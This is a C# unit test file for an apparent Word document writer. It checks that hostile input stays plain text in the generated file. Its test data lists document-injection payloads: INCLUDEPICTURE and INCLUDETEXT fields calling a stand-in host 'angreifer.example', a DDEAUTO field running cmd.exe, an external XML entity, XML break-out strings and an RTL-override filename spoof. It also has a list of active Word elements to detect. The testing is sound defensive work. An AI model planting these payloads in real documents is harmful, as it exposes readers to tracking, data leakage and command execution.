using System.Xml.Linq;
using OfficeKi.Documents.Writing;
using static OfficeKi.Tests.Documents.Writing.WordTexts;

namespace OfficeKi.Tests.Documents.Writing;

/// <summary>Whatever a text looks like, in a Word file of ours it is text: no field, no link, no picture, nothing from outside.</summary>
[Trait("Requirement", "INJ-8")]
public class InertTextTests
{
    private static readonly string[] Acting =
        ["instrText", "fldSimple", "fldChar", "hyperlink", "drawing", "pict", "object", "altChunk", "attachedTemplate", "subDoc", "OLEObject", "control", "smartTag"];

    public static TheoryData<string> Hostile =>
    [
        "{ INCLUDEPICTURE \"https://angreifer.example/p.png?d=1\" \\d }",
        "\u0013 INCLUDEPICTURE https://angreifer.example/p.png \u0014x\u0015",
        "{ DDEAUTO c:\\windows\\system32\\cmd.exe \"/c calc\" }",
        "<w:instrText>INCLUDETEXT \\\\angreifer.example\\a</w:instrText>",
        "</w:t></w:r><w:fldSimple w:instr=\"INCLUDEPICTURE x\"/><w:r><w:t>",
        "<Relationship Id=\"rId9\" Target=\"https://angreifer.example\" TargetMode=\"External\"/>",
        "]]><w:p/><![CDATA[",
        "<!ENTITY x SYSTEM \"https://angreifer.example\">&x;",
        "<img src=\"https://angreifer.example/p.png\">",
        "[x](https://angreifer.example)",
        "a\u0000b\u0008c\u001B[31md",
        "\u202Egnp.exe\u202C",
    ];

    [Theory]
    [MemberData(nameof(Hostile))]
    public void Hostile_text_is_text_in_the_file(string text)
    {
        var parts = Parts(WordFile.Write(Of(Paragraph(text), Paragraph("Ende"))));

        Assert.All(parts.Where(part => part.Key.EndsWith(".xml", StringComparison.Ordinal) || part.Key.EndsWith(".rels", StringComparison.Ordinal)), part =>
        {
            var elements = XDocument.Parse(part.Value).Descendants().ToArray();
            Assert.DoesNotContain(elements, element => Acting.Contains(element.Name.LocalName) && element.Name.NamespaceName.Contains("wordprocessingml", StringComparison.Ordinal) && IsOfText(part.Key));
            Assert.DoesNotContain(elements.Attributes(), attribute => attribute.Name.LocalName == "TargetMode" && attribute.Value == "External");
            Assert.DoesNotContain(elements.Attributes(), attribute => attribute.Value.Contains("angreifer", StringComparison.OrdinalIgnoreCase));
            Assert.DoesNotMatch("[\u0000-\u0008\u000E-\u001F\u202A-\u202E]", part.Value);
        });
        Assert.EndsWith("Ende", XDocument.Parse(parts["word/document.xml"]).Root!.Value, StringComparison.Ordinal);
    }

    // Headers and footers hold the page number, which is a field of our own.
    private static bool IsOfText(string part) => part == "word/document.xml";
}
